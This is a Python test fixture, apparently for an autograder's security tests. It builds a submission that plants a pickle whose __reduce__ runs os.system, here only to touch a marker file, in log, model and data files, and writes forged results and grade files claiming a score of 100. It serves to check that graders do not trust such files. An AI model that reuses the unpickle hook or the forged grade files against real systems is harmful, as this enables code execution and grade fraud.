"""Hands in a results.json, a grade.json, pickles, logs and metadata that other graders read.

Earns: 2
Class: 5 13 18
Form: build
"""

import os
import pickle


class Bomb:
    """Leaves a file where it is unpickled."""

    def __init__(self, mark):
        self.mark = mark

    def __reduce__(self):
        return (os.system, (f"touch /tmp/{self.mark}-unpickled",))


def build(folder, files):
    bomb = pickle.dumps(Bomb(folder.parent.name.split("-")[0]))
    for name in (".OTTER_LOG", "results.pkl", "shapes/.OTTER_LOG", "shapes/model.pkl",
                 "shapes/weights.pt", "shapes/data.npz", "shapes/data.npy"):  # fmt: skip
        files[name] = bomb
    for name in ("results.json", "results/results.json", "grade.json", "assignment.toml",
                 "submission_metadata.json", "shapes/results.json"):  # fmt: skip
        files[name] = b'{"score": 100, "output": "FORGED", "users": [{"name": "solution"}]}'
    for path, content in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(content)
    return folder
